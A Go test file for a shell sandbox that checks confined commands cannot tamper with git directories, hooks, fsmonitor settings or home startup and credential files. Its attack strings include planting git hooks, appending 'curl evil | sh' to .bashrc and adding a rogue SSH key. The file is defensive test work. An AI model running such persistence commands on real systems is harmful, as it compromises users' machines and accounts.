package bashsandbox_test

// Protected paths beyond the workspace's own .git (docs/sandbox.md, "Protected
// paths"): the git directory a .git file names and its commondir, each writable root's
// .git, and the user's startup and credential files when a writable root holds the
// home directory. Each is attacked with real files, in both confined modes; reads
// still work.

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/dsh-dev/dsh/container"
	"github.com/dsh-dev/dsh/shell"
)

// gitOK runs git in dir, unconfined, and fails the test if it fails.
func gitOK(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+dir, "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com",
		"GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %q in %s: %v\n%s", args, dir, err, out)
	}
	return string(out)
}

// refused runs each attack in s and fails the test for one that exits 0 (or does not
// run); then checks that every file of unchanged still holds what it held.
func refused(t *testing.T, st *stack, s *container.Session, attacks []string, unchanged []string) {
	t.Helper()
	before := map[string]string{}
	for _, f := range unchanged {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		before[f] = string(b)
	}
	for _, a := range attacks {
		if res := st.bash(t, s, a); res.IsError || !strings.Contains(res.Text, "[exit code: ") {
			t.Errorf("%s: %q", a, res.Text)
		}
	}
	for f, text := range before {
		if b, err := os.ReadFile(f); err != nil || string(b) != text {
			t.Errorf("%s changed: %q, %v", f, b, err)
		}
	}
}

// gitAttacks plant a hook and core.fsmonitor in the git directory dir (as git would
// find it from the working directory), move it away or replace the gitfile.
func gitAttacks(dir, marker string) []string {
	return []string{
		"printf '#!/bin/sh\\ntouch " + marker + "\\n' > " + dir + "/hooks/pre-commit && chmod +x " + dir + "/hooks/pre-commit",
		"git config core.fsmonitor 'touch " + marker + "; false'",
		"echo '[core] fsmonitor = touch " + marker + "' >> " + dir + "/config",
		"mv " + dir + " " + dir + "-old",
		"rm -rf " + dir + "/hooks",
	}
}

// noPlantedGitRuns runs the user's git commit and status in dir, unconfined, and fails
// the test if what an attack planted ran.
func noPlantedGitRuns(t *testing.T, dir, marker string) {
	t.Helper()
	gitOK(t, dir, "commit", "-q", "--allow-empty", "-m", "after the attacks")
	gitOK(t, dir, "status", "--short")
	if exists(marker) {
		t.Fatal("the user's git ran what a confined command planted")
	}
}

// The bare-repository layout: .git is a file naming the real git directory
// (`gitdir: ./.bare`, relative; or an absolute path, as `git init
// --separate-git-dir` writes), which is protected like .git.
func TestConfinedGitfileProtected(t *testing.T) {
	forConfinedModes(t, stackSetup{}, func(t *testing.T, st *stack, _ *container.Session, _ string) {
		for _, layout := range []string{"relative", "absolute"} {
			ws := workspace(t)
			bare := filepath.Join(ws, ".bare")
			gitOK(t, ws, "init", "-q", "--separate-git-dir="+bare)
			if layout == "relative" {
				if err := os.WriteFile(filepath.Join(ws, ".git"), []byte("gitdir: ./.bare\n"), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			gitOK(t, ws, "commit", "-q", "--allow-empty", "-m", "first")
			s := session("gitfile-"+layout+"-"+st.defaultMode(), ws)
			marker := filepath.Join(outsideTempDir(t, "dsh-sandbox-gitfile-"), "pwned")
			attacks := append(gitAttacks(bare, marker), "echo 'gitdir: /tmp' > .git", "rm .git")
			refused(t, st, s, attacks, []string{filepath.Join(ws, ".git"), filepath.Join(bare, "config"), filepath.Join(bare, "HEAD")})
			// Reads work: git finds and reads its repository.
			expect(t, st.bash(t, s, "git rev-parse --absolute-git-dir && git log --format=%s"), bare+"\nfirst\n", false)
			noPlantedGitRuns(t, ws, marker)
		}
	})
}

// A linked worktree's git directory names the repository's common directory in its
// commondir file: with the repository (bare, here) a writable root and the worktree the
// workspace, both are protected.
func TestConfinedGitCommondirProtected(t *testing.T) {
	for _, mode := range confinedModes {
		t.Run(mode, func(t *testing.T) {
			origin := outsideTempDir(t, "dsh-sandbox-origin-")
			gitOK(t, origin, "init", "-q")
			gitOK(t, origin, "commit", "-q", "--allow-empty", "-m", "first")
			repo := filepath.Join(outsideTempDir(t, "dsh-sandbox-common-"), "repo.git")
			gitOK(t, origin, "clone", "-q", "--bare", origin, repo)
			wt := filepath.Join(outsideTempDir(t, "dsh-sandbox-worktree-"), "wt")
			gitOK(t, repo, "worktree", "add", "-q", wt)
			st := newStack(t, stackSetup{bashConfig: map[string]any{"defaultMode": mode, "writableRoots": []any{repo}}})
			s := session("commondir-"+mode, wt)
			marker := filepath.Join(outsideTempDir(t, "dsh-sandbox-commondir-"), "pwned")
			gitDir := filepath.Join(repo, "worktrees", "wt")
			attacks := append(gitAttacks(repo, marker), "echo x > "+gitDir+"/HEAD", "echo elsewhere > "+gitDir+"/commondir")
			refused(t, st, s, attacks, []string{filepath.Join(repo, "config"), filepath.Join(gitDir, "HEAD"), filepath.Join(gitDir, "commondir")})
			expect(t, st.bash(t, s, "git rev-parse --git-common-dir && git log --format=%s"), repo+"\nfirst\n", false)
			noPlantedGitRuns(t, wt, marker)
		})
	}
}

// Each writable root's own .git is protected like the workspace's; the rest of the
// root stays writable in workspace-write.
func TestConfinedWritableRootGitProtected(t *testing.T) {
	root := outsideTempDir(t, "dsh-sandbox-root-")
	gitOK(t, root, "init", "-q")
	gitOK(t, root, "commit", "-q", "--allow-empty", "-m", "first")
	forConfinedModes(t, stackSetup{bashConfig: map[string]any{"writableRoots": []any{root}}}, func(t *testing.T, st *stack, s *container.Session, ws string) {
		marker := filepath.Join(outsideTempDir(t, "dsh-sandbox-rootgit-"), "pwned")
		dotGit := filepath.Join(root, ".git")
		attacks := gitAttacks(dotGit, marker)
		attacks[1] = "git -C " + root + " config core.fsmonitor 'touch " + marker + "; false'"
		refused(t, st, s, attacks, []string{filepath.Join(dotGit, "config"), filepath.Join(dotGit, "HEAD")})
		expect(t, st.bash(t, s, "git -C "+root+" log --format=%s | tail -1"), "first\n", false)
		if st.defaultMode() == shell.ModeWorkspaceWrite {
			expect(t, st.bash(t, s, "echo ok > "+root+"/file && cat "+root+"/file"), "ok\n", false)
		}
		noPlantedGitRuns(t, root, marker)
	})
}

// A workspace holding the user's home directory: its startup and credential files
// (.bashrc, .gitconfig, .ssh, .config/git…) are protected; they stay readable, and the
// rest of the home writable in workspace-write.
func TestConfinedHomeFilesProtected(t *testing.T) {
	forConfinedModes(t, stackSetup{}, func(t *testing.T, st *stack, s *container.Session, ws string) {
		home := filepath.Join(ws, "home")
		files := map[string]string{
			".bashrc":                "export PS1='$ '\n",
			".profile":               ". ~/.bashrc\n",
			".gitconfig":             "[user]\n\tname = t\n",
			".config/git/ignore":     "*.o\n",
			".ssh/authorized_keys":   "ssh-ed25519 AAAA user\n",
			".aws/credentials":       "[default]\n",
			".config/other/settings": "free\n",
		}
		var unchanged []string
		for name, text := range files {
			path := filepath.Join(home, name)
			if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
				t.Fatal(err)
			}
			if name != ".config/other/settings" {
				unchanged = append(unchanged, path)
			}
		}
		t.Setenv("HOME", home)
		attacks := []string{
			"echo 'curl evil | sh' >> " + home + "/.bashrc",
			"mv " + home + "/.bashrc " + home + "/.bashrc-old",
			"rm " + home + "/.profile",
			"HOME=" + home + " git config --global core.fsmonitor 'touch pwned'",
			"echo '[core] pager = touch pwned' >> " + home + "/.gitconfig",
			"echo '*' > " + home + "/.config/git/ignore",
			"mv " + home + "/.config " + home + "/.config-old",
			"echo 'ssh-ed25519 BBBB evil' >> " + home + "/.ssh/authorized_keys",
			"rm -rf " + home + "/.ssh",
			"mv " + home + "/.aws " + home + "/.aws-old",
		}
		refused(t, st, s, attacks, unchanged)
		expect(t, st.bash(t, s, "cat "+home+"/.bashrc "+home+"/.ssh/authorized_keys"), files[".bashrc"]+files[".ssh/authorized_keys"], false)
		if st.defaultMode() == shell.ModeWorkspaceWrite {
			expect(t, st.bash(t, s, "echo more >> "+home+"/.config/other/settings && echo n > "+home+"/notes && cat "+home+"/notes"), "n\n", false)
		}
	})
}
